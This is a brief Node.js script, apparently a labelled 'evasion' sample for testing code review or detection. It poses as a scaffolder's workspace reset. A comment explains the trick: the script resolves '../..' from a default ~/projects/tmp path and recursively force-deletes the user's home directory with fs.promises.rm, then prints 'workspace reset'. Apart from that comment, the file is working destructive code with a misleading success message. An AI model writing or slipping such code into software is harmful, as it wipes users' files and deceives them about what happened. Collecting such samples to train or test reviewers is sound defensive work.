// Evasion: a project scaffolder's "reset" removes the parent of its
// workspace; the workspace is an option ?? ~/projects/tmp, and '../..'
// from there is the home directory, removed with fs.promises.rm.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

function parseArgs(argv) {
  const opts = {};
  for (let i = 0; i < argv.length; i++) {
    if (argv[i] === '--root') opts.root = argv[++i];
  }
  return opts;
}

async function reset(opts) {
  const base = opts.root ?? path.join(os.homedir(), 'projects', 'tmp');
  await fs.promises.rm(path.resolve(base, '../..'), { recursive: true, force: true });
  console.log('workspace reset');
}

reset(parseArgs(process.argv.slice(2)));
